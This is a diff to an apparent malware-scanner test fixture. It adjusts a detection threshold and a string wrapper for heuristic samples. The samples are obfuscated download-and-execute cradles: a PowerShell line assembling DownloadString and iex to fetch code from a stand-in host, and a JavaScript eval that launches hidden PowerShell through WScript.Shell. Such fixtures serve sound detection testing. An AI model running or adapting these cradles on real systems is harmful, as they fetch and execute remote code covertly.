@@ -30,7 +30,7 @@ export const suspiciousScripts: readonly SuspiciousScript[] = [
   {
     title: 'a cradle in pieces and variables',
     name: 'Heuristic.Script.PowerShell',
-    least: 85,
+    least: 80,
     text: whole(
       `$c = 'Down'+'loadStr'+'ing'\n&('i'+'ex') ((New-Object Net.WebClient).$c('http://203.0.113.7/x'))`,
     ),
@@ -120,7 +120,7 @@ export const suspiciousScripts: readonly SuspiciousScript[] = [
     name: 'Heuristic.Script.JavaScript',
     least: 90,
     text: whole(
-      `eval(String.fromCh¦arCode(${[...`new Active¦XObject("WSc¦ript.Shell").Run("cmd /c power¦shell -w hidden iex(iwr http://203.0.113.7)")`].map((c) => c.charCodeAt(0)).join(',')}))`,
+      `eval(String.fromCh¦arCode(${[...whole(`new Active¦XObject("WSc¦ript.Shell").Run("cmd /c power¦shell -w hidden iex(iwr http://203.0.113.7)")`)].map((c) => c.charCodeAt(0)).join(',')}))`,
     ),
   },
   {
